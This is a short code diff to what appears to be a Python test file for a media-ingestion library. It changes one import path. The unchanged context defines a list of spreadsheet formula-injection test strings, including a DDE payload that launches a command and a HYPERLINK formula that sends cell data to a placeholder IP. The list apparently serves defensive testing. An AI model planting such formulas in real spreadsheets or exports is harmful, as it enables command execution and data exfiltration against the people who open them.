@@ -25,7 +25,7 @@ from flowkit.inputs.images import decode_image
 from flowkit.inputs.manifest import REQUIRED, read_manifest
 from flowkit.inputs.mp4_headers import header_problem
 from flowkit.inputs.videos import read_footage
-from flowkit.storage.shards import ShardFolder
+from flowkit.storage.folder import ShardFolder
 from hostile_files import KINDS, little_memory, no_file
 
 FORMULAS = ("=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("http://192.0.2.1/?"&A1,"x")')
